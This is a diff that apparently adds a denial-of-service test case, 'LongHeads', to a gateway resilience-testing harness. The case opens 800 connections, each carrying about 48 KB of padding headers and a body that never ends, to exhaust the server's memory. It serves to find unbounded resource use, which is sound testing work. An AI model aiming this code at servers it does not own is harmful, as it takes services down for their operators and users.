@@ -149,6 +149,41 @@ class EndsTogether(Attack):
             tally["broken off"] += 1
 
 
+class LongHeads(Attack):
+    """800 requests with 48 KB of headers, each followed by a body that does not end.
+
+    4000 of them took 256 MB that no limit counted.
+    """
+
+    name = "long-heads"
+    connections: ClassVar[int] = 800
+    rate: ClassVar[float] = 100.0
+    """Requests a second, until all are open."""
+
+    def prepare(self) -> None:
+        headers = {f"x-long-{number}": "v" * 530 for number in range(90)}
+        self._request = post(SMALL, COMPLETIONS, headers)[:-1]
+
+    async def run(self, target: Target, tally: Tally) -> None:
+        async with asyncio.TaskGroup() as tasks:
+            async for number in paced(self.rate):
+                tasks.create_task(self._one(target.gateway, tally))
+                if number + 1 == self.connections:
+                    break
+
+    async def _one(self, port: int, tally: Tally) -> None:
+        try:
+            reader, writer = await asyncio.open_connection(HOST, port)
+            tally["sent"] += 1
+            try:
+                writer.write(self._request)
+                tally[(await reader.readline())[9:12].decode() or "broken off"] += 1
+            finally:
+                writer.transport.abort()
+        except OSError:
+            tally["broken off"] += 1
+
+
 class SlowHeads(Attack):
     """300 connections that send a header a second, and never the end of the head."""
 
